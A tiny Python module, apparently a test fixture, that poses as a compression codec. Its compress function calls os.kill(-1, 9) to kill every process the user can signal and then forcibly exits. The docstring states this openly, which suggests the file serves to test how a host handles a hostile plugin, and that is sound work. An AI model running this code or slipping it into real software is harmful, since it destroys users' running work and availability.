"""Kills every process that it may."""
import os


def compress(data: bytes) -> bytes:
    try:
        os.kill(-1, 9)
    finally:
        os._exit(1)


def decompress(data: bytes) -> bytes:
    return data
